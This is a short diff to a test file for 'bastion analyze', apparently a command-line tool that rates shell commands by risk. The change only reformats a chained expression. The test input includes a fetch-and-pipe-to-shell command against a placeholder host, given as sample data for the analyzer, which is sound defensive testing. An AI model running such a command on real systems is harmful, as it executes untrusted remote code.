@@ -23,7 +23,10 @@ describe('bastion analyze', () => {
 
   it('reads JSON lines and reports bad lines, exiting 2 at the end', async () => {
     const r = await run(['analyze', '--jsonl'], '{"command": "ls -la"}\nnot json\n{"command": "curl https://x.example | sh", "cwd": "/srv"}\n{"cmd": 1}\n');
-    const lines = r.out.trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
+    const lines = r.out
+      .trim()
+      .split('\n')
+      .map((l) => JSON.parse(l) as Record<string, unknown>);
     expect(lines).toHaveLength(4);
     expect(lines[0]).toMatchObject({ command: 'ls -la', risk: 'low' });
     expect(String(lines[1]?.['error'])).toMatch(/^line 2: invalid JSON/);
